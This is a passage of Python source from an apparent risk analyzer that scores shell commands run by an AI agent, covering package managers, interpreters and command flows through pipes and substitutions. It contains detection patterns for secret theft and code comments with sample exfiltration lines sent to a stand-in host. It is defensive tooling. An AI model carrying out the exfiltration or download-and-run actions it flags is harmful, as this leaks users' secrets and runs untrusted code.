            (rest[0].value or "") if sub in ("run", "run-script", "rum", "urn") and rest else sub
        )
        if PUBLISH_WORDS.match(script or ""):
            an.add(
                K.NETWORK,
                40,
                f"runs the `{script}` script, which usually publishes or deploys",
                c.span,
            )
        elif sub in ("dev", "serve", "start") or script in ("dev", "serve", "start"):
            an.add(
                K.NETWORK,
                36,
                f"runs the `{script}` script: usually a server that listens and keeps running",
                c.span,
            )
        else:
            an.add(K.RESOURCE, 5, f"runs the project's `{script}` script (sandboxed)", c.span)
        return
    if (
        sub in ("config", "set") and any(w.value in ("set", "edit", "delete") for w in rest)
    ) or sub == "set":
        registry = any("registry" in (w.value or "") for w in rest)
        project = any((w.value or "") in ("--location=project", "--project") for w in c.args) or (
            any(w.value == "--location" for w in c.args)
            and any(w.value == "project" for w in c.args)
        )
        an.add(
            K.SUPPLY_CHAIN,
            70 if registry else 55 if project else 62,
            f"changes {name}'s configuration"
            + (" so packages come from another registry" if registry else " (scripts, tokens)")
            + ("" if project else " for every project on this machine, outside the workspace"),
            c.span,
        )
        return
    if sub in ("uninstall", "remove", "rm", "r", "un", "unlink", "prune", "dedupe"):
        an.add(K.DESTRUCTIVE, 20, f"`{name} {sub}` removes dependencies", c.span)
        return
    if sub in ("audit", "outdated", "view", "info", "show", "search", "doctor", "ping", "whoami"):
        an.ci(c).network = True
        an.add(
            K.NETWORK,
            36 if sub != "audit" or "fix" not in [w.value for w in rest] else 40,
            f"`{name} {sub}` queries the registry",
            c.span,
        )
        return
    if sub in ("init", "create") and rest:
        _pkg_findings(
            an,
            c,
            [Word(f"create-{rest[0].value}", f"create-{rest[0].value}", rest[0].span)]
            if rest[0].value and not rest[0].value.startswith("@")
            else rest[:1],
            "npm",
            name,
            runs=True,
        )
        return
    if sub == "pkg" and rest and rest[0].value in ("set", "delete"):
        for w in rest[1:]:
            v = w.value or ""
            key, _, value = v.partition("=")
            if key.startswith("scripts."):
                hook = key.split(".", 1)[1]
                install = hook in (
                    "preinstall",
                    "install",
                    "postinstall",
                    "prepare",
                    "prepublish",
                    "prepublishOnly",
                    "prepack",
                )
                an.add(
                    K.SUPPLY_CHAIN,
                    60 if install else 36,
                    f"sets the npm script `{hook}`"
                    + (": it runs on every install" if install else ""),
                    w.span,
                )
                if value:
                    an.fragment(value, None, w.span, c, prefix=f"the `{hook}` script runs: ")
            else:
                an.add(K.SUPPLY_CHAIN, 36, f"changes package.json ({short(key, 30)})", w.span)
        return
    if sub in ("link",):
        an.add(
            K.OUTSIDE_WORKSPACE, 36, f"`{name} link` writes links into the global folder", c.span
        )
        return
    if sub in ("cache",) and any(w.value in ("clean", "clear") for w in rest):
        an.add(K.DESTRUCTIVE, 15, "clears the package cache", c.span)
        return


def h_cargo(an: Analyzer, c: SimpleCommand) -> None:
    args = [w for w in c.args if not (w.value or "").startswith("+")]
    opts, pos = split_args(
        args,
        frozenset(
            {
                "--git",
                "--path",
                "--registry",
                "--index",
                "--branch",
                "--tag",
                "--rev",
                "-p",
                "--package",
                "--features",
                "-F",
                "--target",
                "--manifest-path",
                "-j",
                "--jobs",
                "--bin",
                "--example",
                "--root",
                "--version",
                "--vers",
                "--rename",
                "-Z",
                "--target-dir",
                "--config",
            }
        ),
    )
    sub = pos[0].value if pos else ""
    rest = pos[1:]
    if sub in ("add", "install"):
        an.ci(c).network = True
        for k in ("--git", "--registry", "--index"):
            w = opts.get(k)
            if w is not None:
                an.add(K.SUPPLY_CHAIN, 55, f"cargo {sub} from {q(w)} instead of crates.io", w.span)
        from_index = not any(k in opts for k in ("--git", "--path", "--registry", "--index"))
        _pkg_findings(an, c, rest, "crates" if from_index else None, f"cargo {sub}")
        if not rest and sub == "install" and has(opts, "--path"):
            an.add(K.SUPPLY_CHAIN, 20, "installs the local crate", c.span)
        if sub == "install":
            an.add(K.OUTSIDE_WORKSPACE, 36, "installs a binary into ~/.cargo/bin", c.span)
        return
    if sub in ("publish", "yank", "owner", "login", "logout"):
        an.add(
            K.EXFILTRATION if sub == "publish" else K.SECRETS,
            55,
            f"`cargo {sub}` acts on crates.io with your account",
            c.span,
        )
        return
    if sub in ("update", "fetch", "generate-lockfile", "search", "vendor"):
        an.add(K.NETWORK, 36, f"`cargo {sub}` downloads from crates.io", c.span)
        return
    if sub in ("remove", "rm", "clean", "uninstall"):
        an.add(K.DESTRUCTIVE, 15, f"`cargo {sub}` removes build output or a dependency", c.span)
        return
    an.add(
        K.RESOURCE, 5, f"runs `cargo {sub}` on the project (sandboxed; build scripts run)", c.span
    )


def h_go(an: Analyzer, c: SimpleCommand) -> None:
    pos = [w for w in c.args if not (w.value or "").startswith("-")]
    sub = pos[0].value if pos else ""
    rest = pos[1:]
    if sub in ("get", "install"):
        an.ci(c).network = True
        names = ", ".join(q(w) for w in rest[:3]) or "modules"
        an.add(K.SUPPLY_CHAIN, 40, f"`go {sub}` downloads {names} and builds it", c.span)
        return
    if (
        sub == "mod"
        and rest
        and rest[0].value
        in ("download", "tidy", "vendor", "init", "edit", "graph", "why", "verify")
    ):
        if rest[0].value in ("download", "tidy", "vendor"):
            an.add(K.NETWORK, 36, f"`go mod {rest[0].value}` downloads modules", c.span)
        return
    if sub == "run" and rest and "@" in (rest[0].value or ""):
        an.add(K.SUPPLY_CHAIN, 45, f"downloads and runs {q(rest[0])}", c.span)
        return
    if sub == "clean" and any(w.value in ("-modcache", "-cache") for w in c.args):
        an.add(K.DESTRUCTIVE, 15, "clears go caches", c.span)
        return
    an.add(K.RESOURCE, 5, f"runs `go {sub}` on the project (sandboxed)", c.span)


def h_gem(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    opts, pos = split_args(
        c.args,
        frozenset(
            {"-s", "--source", "-v", "--version", "-i", "--install-dir", "--gemfile", "--path"}
        ),
    )
    sub = pos[0].value if pos else ("install" if name == "bundle" else "")
    if name == "bundle":
        if sub in ("install", "update", "add", "i"):
            an.add(K.SUPPLY_CHAIN, 40, f"`bundle {sub}` installs gems", c.span)
        elif sub == "exec":
            an.add(K.RESOURCE, 5, "runs a command with the project's gems", c.span)
            if len(pos) > 1:
                an.fragment(
                    " ".join(w.best for w in pos[1:]),
                    None,
                    (pos[1].span[0], pos[-1].span[1]),
                    c,
                    prefix="bundle exec: ",
                )
        return
    if name == "composer":
        if sub in ("require", "install", "update", "create-project", "global"):
            an.add(
                K.SUPPLY_CHAIN,
                40,
                f"`composer {sub}` installs PHP packages (their scripts run)",
                c.span,
            )
        return
    if sub in ("install", "i", "update"):
        src = val(opts, "-s", "--source")
        if src is not None:
            an.add(K.SUPPLY_CHAIN, 60, f"installs gems from {q(src)}", src.span)
        _pkg_findings(an, c, pos[1:], None, "gem")
    elif sub in ("push", "yank", "owner", "signin"):
        an.add(K.EXFILTRATION, 55, f"`gem {sub}` acts on RubyGems with your account", c.span)
    elif sub in ("uninstall",):
        an.add(K.DESTRUCTIVE, 36, "uninstalls gems", c.span)


def h_sys_pkg(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    pos = [w for w in c.args if not (w.value or "").startswith("-")]
    sub = pos[0].value if pos else ""
    vals = [w.value or "" for w in c.args]
    if name == "brew" and sub == "services":
        act = pos[1].value if len(pos) > 1 else "list"
        if act in ("start", "restart", "run"):
            an.add(
                K.PERSISTENCE,
                60,
                f"starts the background service {short(pos[-1].best)} "
                "(it keeps running, and `start` brings it back at login)",
                c.span,
            )
        elif act in ("stop", "kill", "cleanup"):
            an.add(K.DESTRUCTIVE, 40, "stops background services", c.span)
        return
    if name == "dpkg" or name == "rpm":
        if any(
            v in ("-i", "--install", "-U", "--upgrade", "-ivh", "-Uvh")
            or re.fullmatch(r"-[a-zA-Z]*[iU][a-zA-Z]*", v)
            for v in vals
        ) and not any(v in ("-l", "-L", "-q", "-qa", "-s", "--list") for v in vals):
            an.add(K.SUPPLY_CHAIN, 55, f"`{name}` installs a package file system-wide", c.span)
        elif any(v in ("-r", "-P", "--purge", "--remove", "-e", "--erase") for v in vals):
            an.add(K.DESTRUCTIVE, 55, f"`{name}` removes system packages", c.span)
        return
    if name == "nix-env" and any(v in ("-i", "-iA", "--install") for v in vals):
        sub = "install"
    if sub in (
        "install",
        "add",
        "reinstall",
        "upgrade",
        "dist-upgrade",
        "full-upgrade",
        "-S",
        "-Syu",
        "localinstall",
        "groupinstall",
        "tap",
        "cask",
        "bundle",
        "in",
        "get",
    ) or any(re.fullmatch(r"-S[a-z]*", v) for v in vals):
        pkgs = ", ".join(q(w) for w in pos[1:4]) or "packages"
        an.ci(c).network = True
        an.add(
            K.SUPPLY_CHAIN,
            45,
            f"`{name}` installs {pkgs} system-wide (their install "
            "scripts run as the package manager's user)",
            c.span,
        )
        if name == "brew" and sub == "tap":
            an.add(K.SUPPLY_CHAIN, 50, "adds a third-party Homebrew tap", c.span)
        return
    if sub in (
        "remove",
        "purge",
        "autoremove",
        "uninstall",
        "erase",
        "-R",
        "-Rns",
        "del",
        "rm",
        "-Rs",
    ):
        an.add(K.DESTRUCTIVE, 55, f"`{name} {sub}` removes system packages", c.span)
        return
    if sub in ("update", "refresh", "makecache", "-Sy", "check-update", "outdated", "fetch"):
        an.add(K.NETWORK, 36, f"`{name} {sub}` refreshes package lists from the network", c.span)
        return
    if name in (
        "pyenv",
        "nvm",
        "rbenv",
        "rustup",
        "asdf",
        "mise",
        "rtx",
        "volta",
        "fnm",
        "goenv",
        "jenv",
        "sdk",
        "sdkman",
        "tlmgr",
    ) and sub in ("install", "update", "toolchain", "plugin", "self", "target", "component", "use"):
        an.add(K.SUPPLY_CHAIN, 36, f"`{name} {sub}` downloads a toolchain", c.span)
        return
    if name in ("add-apt-repository",) or "sources.list" in " ".join(vals):
        an.add(K.SUPPLY_CHAIN, 60, "adds a package source", c.span)
        return


def h_add_apt_repository(an: Analyzer, c: SimpleCommand) -> None:
    an.add(K.SUPPLY_CHAIN, 60, "adds a third-party package repository to the system", c.span)


# --------------------------------------------------------------------------- interpreters


def h_interpreter(an: Analyzer, c: SimpleCommand) -> None:
    from app.risk.inline import analyze_inline

    analyze_inline(an, c)


def h_python(an: Analyzer, c: SimpleCommand) -> None:
    from app.risk.inline import analyze_inline

    args = list(c.args)
    for k, w in enumerate(args):
        if w.value == "-m" and k + 1 < len(args):
            mod = args[k + 1].value or ""
            rest = args[k + 2 :]
            if mod == "pip":
                h_pip(an, c, rest)
                return
            if any(x.value in ("-h", "--help", "--version") for x in rest):
                an.add(K.RESOURCE, 5, f"prints the help of {mod}", c.span)
                return
            if mod in (
                "http.server",
                "SimpleHTTPServer",
                "smtpd",
                "pyftpdlib",
                "uvicorn",
                "gunicorn",
                "flask",
                "aiohttp.web",
                "jupyter",
                "notebook",
            ):
                if mod == "flask" and not any(x.value == "run" for x in rest):
                    an.add(K.RESOURCE, 5, "runs a flask command", c.span)
                    return
                port = next((x.best for x in rest if (x.value or "").isdigit()), "")
                served = next(
                    (
                        rest[i + 1]
                        for i, x in enumerate(rest[:-1])
                        if x.value in ("-d", "--directory")
                    ),
                    None,
                )
                if served is not None and served.value is not None:
                    where = an.path(c, served.value)
                    if where.where == "outside":
                        an.add(
                            K.EXFILTRATION,
                            75,
                            f"serves {where.display} to anyone who can connect: every file in it "
                            "can be downloaded",
                            served.span,
                        )
                an.add(
                    K.NETWORK,
                    40,
                    f"starts a server ({mod}) that listens for connections"
                    + (f" on port {port}" if port else "")
                    + " and keeps running",
                    c.span,
                )
                return
            if mod in ("venv", "virtualenv"):
                for x in rest:
                    if x.value and not x.value.startswith("-"):
                        write_target(an, c, x, "creates a virtual environment in")
                        break
                return
            if mod in ("ensurepip",):
                an.add(K.SUPPLY_CHAIN, 20, "installs pip", c.span)
                return
            if mod in ("twine",) and rest and rest[0].value == "upload":
                an.add(K.EXFILTRATION, 55, "publishes the package to PyPI", c.span)
                return
            if mod in ("base64",) and any(x.value in ("-d", "--decode") for x in rest):
                an.ci(c).decoder = True
                return
            if mod in ("uv",):
                h_uv(an, c)
                return
            an.add(K.RESOURCE, 5, f"runs the Python module {mod} (sandboxed)", args[k + 1].span)
            return
    analyze_inline(an, c)


def h_shell(an: Analyzer, c: SimpleCommand) -> None:
    """A shell given a script file, or reading its script from stdin (judged in flows)."""
    opts_end = 0
    args = list(c.args)
    while (
        opts_end < len(args)
        and (args[opts_end].value or "").startswith(("-", "+"))
        and args[opts_end].value not in ("-", "--")
    ):
        if "c" in (args[opts_end].value or "")[1:] and not (args[opts_end].value or "").startswith(
            "--"
        ):
            return  # `bash -c` code was re-parsed by the shell module
        opts_end += 1
    if any((w.value or "") in ("-i",) for w in args[:opts_end]):
        an.add(K.PRIVILEGE, 30, f"starts an interactive {c.name}", c.span)
    if opts_end < len(args):
        w = args[opts_end]
        if w.value == "--" and opts_end + 1 < len(args):
            w = args[opts_end + 1]
        if w.procsub or w.value == "-":
            return
        if w.value is None:
            an.add(
                K.OBFUSCATION,
                50,
                f"runs a shell script whose path is known only at run time ({q(w.text)})",
                w.span,
            )
            return
        info = an.path(c, w.value)
        an.facts.runs.append(info.abs or info.raw)
        if (info.abs or info.raw) in an.facts.downloads:
            an.add(
                K.SUPPLY_CHAIN,
                90,
                f"runs {info.display}, which this action just downloaded",
                w.span,
            )
        elif run_written(an, c, info.abs or info.raw, c.name or "sh"):
            an.add(K.RESOURCE, 5, f"runs {info.display}, which it has just written", w.span)
        elif info.where == "workspace":
            an.add(K.RESOURCE, 5, f"runs the script {info.display} (sandboxed)", w.span)
        elif info.where == "tmp":
            an.add(
                K.RESOURCE, 35, f"runs the script {info.display} from a temporary directory", w.span
            )
        else:
            an.add(K.RESOURCE, 25, f"runs the script {info.display}, outside the workspace", w.span)


# --------------------------------------------------------------------------- table

HANDLERS: dict[str, Handler] = {
    "rm": h_rm,
    "rmdir": h_rmdir,
    "shred": h_shred,
    "unlink": h_unlink,
    "srm": h_shred,
    "wipe": h_shred,
    "touch": h_touch,
    "mkdir": h_touch,
    "truncate": h_touch,
    "dos2unix": h_touch,
    "unix2dos": h_touch,
    "mkfifo": h_touch,
    "mknod": h_touch,
    "cp": h_copy,
    "mv": h_copy,
    "ln": h_copy,
    "install": h_copy,
    "tee": h_tee,
    "sed": h_sed,
    "gsed": h_sed,
    "dd": h_dd,
    "chmod": h_chmod,
    "chown": h_chmod,
    "chgrp": h_chmod,
    "tar": h_tar,
    "gtar": h_tar,
    "bsdtar": h_tar,
    "zip": h_zip,
    "unzip": h_zip,
    "7z": h_zip,
    "find": h_find,
    "cd": h_cd,
    "pushd": h_cd,
    "git": h_git,
    "pip": h_pip,
    "uv": h_uv,
    "uvx": h_uvx,
    "pipx": h_pipx,
    "poetry": h_poetry,
    "pdm": h_poetry,
    "hatch": h_poetry,
    "rye": h_poetry,
    "pipenv": h_poetry,
    "conda": h_conda,
    "mamba": h_conda,
    "micromamba": h_conda,
    "npm": h_npm,
    "yarn": h_npm,
    "pnpm": h_npm,
    "bun": h_npm,
    "npx": h_npm,
    "pnpx": h_npm,
    "bunx": h_npm,
    "cargo": h_cargo,
    "go": h_go,
    "gem": h_gem,
    "bundle": h_gem,
    "bundler": h_gem,
    "composer": h_gem,
    "systemctl": h_systemctl,
    "service": h_service,
    "crontab": h_crontab,
    "at": h_at,
    "batch": h_at,
    "atq": h_at,
    "atrm": h_at,
    "launchctl": h_launchctl,
    "kill": h_kill,
    "pkill": h_kill,
    "killall": h_kill,
    "killall5": h_kill,
    "xkill": h_kill,
    "add-apt-repository": h_add_apt_repository,
    "sudoedit": h_sudo,
    "python": h_python,
    "nohup": h_noop,
    "setsid": h_noop,
    "disown": h_noop,
    "eval": lambda an, c: an.add(
        K.OBFUSCATION, 40, "evaluates text as shell code (eval), which hides what runs", c.span
    ),
    "exec": h_noop,
    "command": h_noop,
    "builtin": h_noop,
    "env": h_read_only,
    "timeout": h_noop,
    "nice": h_noop,
    "ionice": h_noop,
    "stdbuf": h_noop,
    "xargs": h_noop,
    "watch": h_noop,
    "flock": h_noop,
    "strace": h_noop,
    "ltrace": h_noop,
    "time": h_noop,
    "chrt": h_noop,
    "taskset": h_noop,
    "unbuffer": h_noop,
    "caffeinate": h_noop,
    "catchsegv": h_noop,
    "fakeroot": h_noop,
    "busybox": h_noop,
    "script": h_noop,
    "firejail": h_noop,
    "chroot": lambda an, c: an.add(K.PRIVILEGE, 60, "changes the root directory (chroot)", c.span),
    "unshare": lambda an, c: an.add(K.PRIVILEGE, 40, "runs a command in new namespaces", c.span),
    "nsenter": lambda an, c: an.add(K.PRIVILEGE, 75, "enters another process's namespaces", c.span),
    "systemd-run": lambda an, c: an.add(
        K.PERSISTENCE, 60, "starts a transient system service", c.span
    ),
    "torsocks": lambda an, c: an.add(K.NETWORK, 50, "routes traffic through Tor", c.span),
    "proxychains": lambda an, c: an.add(K.NETWORK, 50, "routes traffic through proxies", c.span),
    "proxychains4": lambda an, c: an.add(K.NETWORK, 50, "routes traffic through proxies", c.span),
    "base64": lambda an, c: _decoder_flag(an, c, ("-d", "--decode", "-D")),
    "base32": lambda an, c: _decoder_flag(an, c, ("-d", "--decode")),
    "basenc": lambda an, c: _decoder_flag(an, c, ("-d", "--decode")),
    "uudecode": lambda an, c: _decoder_flag(an, c, ()),
    "gpg": lambda an, c: _gpg(an, c),
    "ssh-keygen": lambda an, c: an.add(K.SECRETS, 20, "creates or changes SSH keys", c.span),
    "ssh-copy-id": lambda an, c: an.add(
        K.PERSISTENCE, 65, "adds your key to another machine's authorized keys", c.span
    ),
    "ssh-keyscan": lambda an, c: an.add(
        K.NETWORK, 36, "contacts hosts to read their SSH keys", c.span
    ),
    "fuser": lambda an, c: an.add(
        K.DESTRUCTIVE if any(w.value == "-k" for w in c.args) else K.RESOURCE,
        40 if any(w.value == "-k" for w in c.args) else 0,
        "kills the processes using a file or port"
        if any(w.value == "-k" for w in c.args)
        else "lists the processes using a file or port",
        c.span,
    ),
    "defaults": lambda an, c: _defaults(an, c),
    "osascript": h_interpreter,
    "history": h_read_only,
    "php": h_interpreter,
    "manage.py": h_build,
    "django-admin": h_migrator,
    "awk": lambda an, c: _awk(an, c),
    "gawk": lambda an, c: _awk(an, c),
    "mawk": lambda an, c: _awk(an, c),
    "nawk": lambda an, c: _awk(an, c),
    "perl": h_interpreter,
    "patch": lambda an, c: an.add(
        K.DESTRUCTIVE, 5, "applies a diff to files in the workspace", c.span
    ),
    "docker": h_container,
    "iex": lambda an, c: an.add(
        K.OBFUSCATION, 50, "evaluates text as PowerShell code (iex)", c.argv[0].span
    ),
    "Invoke-Expression": lambda an, c: an.add(
        K.OBFUSCATION, 50, "evaluates text as PowerShell code", c.argv[0].span
    ),
    "playwright": lambda an, c: _browser_tool(an, c),
    "cypress": lambda an, c: _browser_tool(an, c),
    "twine": lambda an, c: _twine(an, c),
    "gzip": lambda an, c: _decoder_flag(an, c, ("-d", "--decompress", "-dc", "-cd")),
    "gunzip": lambda an, c: _decoder_flag(an, c, ()),
    "xz": lambda an, c: _decoder_flag(an, c, ("-d", "--decompress", "-dc")),
    "unxz": lambda an, c: _decoder_flag(an, c, ()),
    "bunzip2": lambda an, c: _decoder_flag(an, c, ()),
    "zstd": lambda an, c: _decoder_flag(an, c, ("-d", "--decompress", "-dc")),
    "rev": lambda an, c: setattr(an.ci(c), "decoder", True),
    "printf": lambda an, c: _echo(an, c),
    "echo": lambda an, c: _echo(an, c),
    "yes": lambda an, c: None,
    "sleep": lambda an, c: None,
}


def _browser_tool(an: Analyzer, c: SimpleCommand) -> None:
    if any(w.value in ("install", "install-deps") for w in c.args):
        an.ci(c).network = True
        an.add(
            K.SUPPLY_CHAIN, 40, f"`{c.name} install` downloads browsers or system packages", c.span
        )
    else:
        an.add(K.RESOURCE, 5, f"runs `{c.name}` tests (sandboxed)", c.span)


def _defaults(an: Analyzer, c: SimpleCommand) -> None:
    vals = [w.value or "" for w in c.args]
    if "write" not in vals:
        return
    if any(re.search(r"LoginHook|LogoutHook|LaunchAgents|StartupItems", v) for v in vals):
        an.add(K.PERSISTENCE, 85, "makes macOS run a program at every login", c.span)
    else:
        an.add(K.PERSISTENCE, 45, "changes macOS preferences", c.span)


def _twine(an: Analyzer, c: SimpleCommand) -> None:
    if any(w.value == "upload" for w in c.args):
        an.add(K.EXFILTRATION, 55, "publishes packages to PyPI (twine upload)", c.span)
    else:
        an.add(K.RESOURCE, 5, "checks packages with twine", c.span)


def _decoder_flag(an: Analyzer, c: SimpleCommand, flags: tuple[str, ...]) -> None:
    if not flags or any((w.value or "") in flags for w in c.args):
        an.ci(c).decoder = True
    else:
        an.ci(c).reads_data = True
    for w in c.args:
        if w.value and not w.value.startswith("-"):
            read_target(an, c, w)


_SECRET_VAR = re.compile(
    r"\$\{?(\w*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)\w*)",
    re.I,
)


def _echo(an: Analyzer, c: SimpleCommand) -> None:
    """echo/printf: printing a secret-looking variable hands it to the agent; printf with
    escapes is a decoder."""
    name = c.name
    for w in c.args:
        m = re.search(
            r"\$\{?(\w*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|"
            r"PRIVATE_KEY|CREDENTIALS?)\w*)",
            w.text,
            re.I,
        )
        if m and w.dynamic:
            an.ci(c).env_dump = True
            an.add(
                K.SECRETS,
                65,
                f"prints ${m.group(1)}, which looks like a secret: its "
                "value would reach the agent and its model provider",
                w.span,
            )
            break
    if (
        name == "printf"
        and c.args
        and re.search(r"\\x[0-9a-fA-F]{2}|\\[0-7]{3}", c.args[0].value or "")
    ):
        an.ci(c).decoder = True


def _gpg(an: Analyzer, c: SimpleCommand) -> None:
    vals = [w.value or "" for w in c.args]
    if any(v in ("--export-secret-keys", "--export-secret-subkeys") for v in vals):
        an.ci(c).secrets.append("GPG secret keys")
        an.facts.reads_secrets.append("GPG secret keys")
        an.add(K.SECRETS, 80, "exports your GPG secret keys", c.span)
    elif any(v in ("-d", "--decrypt") for v in vals):
        an.ci(c).decoder = True
        an.add(K.SECRETS, 30, "decrypts data with your GPG key", c.span)
    elif any(v in ("--recv-keys", "--send-keys", "--keyserver") for v in vals):
        an.add(K.NETWORK, 36, "talks to a key server", c.span)


def _awk(an: Analyzer, c: SimpleCommand) -> None:
    from app.risk.inline import analyze_awk

    analyze_awk(an, c)


# --------------------------------------------------------------------------- flows


def analyze_flows(an: Analyzer) -> None:
    """Join commands through pipes, substitutions and variables."""
    sc = an.script
    cmds = sc.commands
    for c in cmds:
        if c.keyword or not c.argv:
            continue
        name = c.name or ""
        up = sc.upstream(c.index)
        info = an.ci(c)
        code_from_stdin = _reads_code_from_stdin(c)
        if code_from_stdin:
            body_redirect = next((r for r in c.redirects if r.body is not None), None)
            if body_redirect is not None and not up:
                _run_code_text(
                    an,
                    c,
                    body_redirect.body or "",
                    body_redirect.body_offset,
                    body_redirect.span,
                    prefix=f"{code_from_stdin} reads: ",
                )
                if code_from_stdin not in SHELLS:
                    an.add(
                        K.RESOURCE,
                        5,
                        f"feeds inline code to {code_from_stdin}",
                        body_redirect.span,
                    )
            elif up:
                _judge_code_pipe(an, c, up, code_from_stdin)
        # shells and sourcing given a process substitution
        procsubs = [w for w in c.args if w.procsub == "<"]
        if procsubs and (
            name in SHELLS or name in ("source", ".") or name in INTERPRETERS or _PY.match(name)
        ):
            for w in procsubs:
                inner = [i for s in w.subs for i in [s, *sc.nested(s)]]
                _judge_code_source(an, c, inner, w.span, name)
        # the environment filtered for secrets (env | grep -i token)
        if up and name in _GREPS and any(an.ci(cmds[i]).env_dump for i in up):
            pat = next((w for w in c.args if _SECRET_WORDS.search(w.value or "")), None)
            if pat is not None:
                info.env_dump = True
                an.add(
                    K.SECRETS,
                    65,
                    f"picks variables matching {q(pat)} out of the environment: "
                    "their values would reach the agent and its model provider",
                    pat.span,
                    *(cmds[i].span for i in up),
                )
        # senders fed by a pipe
        if info.sender is not None or (name in DOWNLOADERS and info.sender_label):
            _judge_send(an, c, up)
        # network tools handed a secret-looking variable (curl -H "X-Token: $GITHUB_TOKEN")
        if info.network or info.sender is not None:
            for w in c.args:
                m = _SECRET_VAR.search(w.text) if w.dynamic else None
                if m is not None:
                    where = info.sender_label or (
                        an.facts.hosts[-1] if an.facts.hosts else "the network"
                    )
                    an.add(
                        K.EXFILTRATION,
                        75,
                        f"sends ${m.group(1)}, which looks like a secret, to {where} with `{name}`",
                        w.span,
                    )
                    an.facts.sends_data.append(where)
                    break
        # network tools with substitutions (dig $(cat secret).evil.com, curl -d "$x")
        if info.network or info.sender is not None:
            for w in c.args:
                if not w.subs:
                    continue
                inner = [i for s in w.subs for i in [s, *sc.nested(s)]]
                secrets = [d for i in inner for d in an.ci(cmds[i]).secrets]
                env = any(an.ci(cmds[i]).env_dump for i in inner)
                if secrets or env:
                    what = ", ".join(dict.fromkeys(secrets)) or "environment variables"
                    an.add(
                        K.EXFILTRATION,
                        95,
                        f"sends {what} out over the network with `{name}`",
                        w.span,
                    )
                    an.facts.sends_data.append(name)
                else:
                    made = [cmds[i] for i in inner if cmds[i].argv]
                    what = short(" ".join(x.best for x in made[0].argv), 30) if made else "?"
                    an.add(
                        K.EXFILTRATION,
                        60,
                        f"sends the output of `{what}` out over the network with `{name}`",
                        w.span,
                    )
                    an.facts.sends_data.append(name)
    for c in cmds:
        if not c.stdin_args or not c.argv:
            continue
        found = [i for i in sc.upstream(c.index) if cmds[i].name in ("find", "fd", "fdfind", "ls")]
        for i in found:
            for pattern in find_matches(cmds[i].argv):
                w = Word(pattern, pattern, cmds[i].span)
                if c.name in ("rm", "shred", "unlink", "srm"):
                    delete_target(an, c, w, recursive=True)
                elif c.name in DELETE_FREE_READERS:
                    read_target(an, c, w)
    for owner, w in sc.dynamic_code:
        c = cmds[owner]
        inner = [i for s in w.subs for i in [s, *sc.nested(s)]]
        _judge_code_source(an, c, inner, w.span, c.name or "shell")
    for c in cmds:
        # `cmd=$(… | base64 -d); $cmd`: the command itself is what a decoder or download made.
        if c.name is not None or not c.argv or not c.argv[0].subs:
            continue
        inner = [i for s in c.argv[0].subs for i in [s, *sc.nested(s)]]
        if any(an.ci(cmds[i]).decoder or an.ci(cmds[i]).download is not None for i in inner):
            _judge_code_source(an, c, inner, c.argv[0].span, "the shell")


def _run_code_text(
    an: Analyzer,
    runner: SimpleCommand,
    text: str,
    exact: int | None,
    fallback: tuple[int, int],
    *,
    prefix: str,
) -> None:
    """Code handed to `runner` as text: shell code is parsed again as shell, other languages
    go to the inline-code reader for that language."""
    from app.risk.inline import analyze_code, analyze_python, lang_of

    name = runner.name or ""
    if name in SHELLS or name in ("source", ".", "eval", "xargs") or not name:
        an.fragment(text, exact, fallback, runner, prefix=prefix)
        return
    lang = lang_of(name)
    w = Word(text, text, fallback, exact)
    before = len(an.findings)
    if lang == "python":
        analyze_python(an, runner, text, w)
    elif lang in ("iex", "invoke-expression"):
        an.add(K.OBFUSCATION, 60, "PowerShell evaluates text built by another command", fallback)
    else:
        analyze_code(an, runner, text, w, lang)
    for k in range(before, len(an.findings)):
        f = an.findings[k]
        an.findings[k] = type(f)(f.category, f.score, prefix + f.reason, f.spans)


def _reads_code_from_stdin(c: SimpleCommand) -> str:
    """The interpreter name when `c` takes its program from stdin (`sh`, `python -`, …)."""
    name = c.name or ""
    args = [w.value for w in c.args]
    if name in SHELLS:
        rest = [a for a in args if a is not None and not a.startswith(("-", "+"))]
        if any(
            a is not None and "c" in a[1:] and a.startswith("-") and not a.startswith("--")
            for a in args
        ):
            return ""
        if not rest or "-s" in args or args[:1] == ["-"]:
            return name
        return ""
    if name in ("source", "."):
        if args and args[0] in ("/dev/stdin", "-", "/proc/self/fd/0"):
            return "the shell"
        return ""
    if name in ("iex", "Invoke-Expression"):
        return "PowerShell (iex)"
    if _PY.match(name) or name in INTERPRETERS:
        code_flags = ("-c", "-e", "-E", "-r", "--eval", "-p", "--print", "-x", "-m", "run", "eval")
        if any(a in code_flags for a in args):
            return ""
        rest = [a for a in args if a is not None and not a.startswith("-")]
        if not rest or args[:1] == ["-"] or "-" in args:
            return name
    return ""


def _judge_code_pipe(an: Analyzer, c: SimpleCommand, up: list[int], runner: str) -> None:
    _judge_code_source(an, c, up, c.argv[0].span, runner, piped=True)


def _judge_code_source(
    an: Analyzer,
    c: SimpleCommand,
    sources: list[int],
    span: tuple[int, int],
    runner: str,
    *,
    piped: bool = False,
) -> None:
    cmds = an.script.commands
    downloads = [an.ci(cmds[i]).download for i in sources if an.ci(cmds[i]).download is not None]
    dl_cmds = [cmds[i] for i in sources if an.ci(cmds[i]).download is not None]
    decoders = [cmds[i] for i in sources if an.ci(cmds[i]).decoder]
    how = "pipes it into" if piped else "hands it to"
    if downloads:
        hosts = ", ".join(
            dict.fromkeys(
                t.host if t and t.host != "unknown.invalid" else "a host known only at run time"
                for t in downloads
            )
        )
        an.add(
            K.SUPPLY_CHAIN,
            95,
            f"downloads a script from {hosts} and runs it ({how} {runner})",
            span,
            *(d.span for d in dl_cmds),
        )
        return
    if decoders:
        an.add(
            K.OBFUSCATION,
            92,
            f"decodes hidden text and runs it as code ({how} {runner})",
            span,
            *(d.span for d in decoders),
        )
        _try_decode(an, c, sources)
        return
    # Literal text piped into a shell: read it as code.
    texts = []
    for i in sources:
        s = cmds[i]
        if s.name in ("echo", "printf") and all(w.value is not None for w in s.args):
            vals = [
                w.value or ""
                for w in s.args
                if not (s.name == "echo" and w.value in ("-e", "-n", "-E"))
            ]
            if s.name == "printf" and vals:
                vals = [vals[0].replace("\\n", "\n").replace("\\t", "\t")]
            exact = s.args[0].exact if len(s.args) == 1 else None
            texts.append(
                (
                    " ".join(vals),
                    exact,
                    (s.args[0].span[0], s.args[-1].span[1]) if s.args else s.span,
                    s,
                )
            )
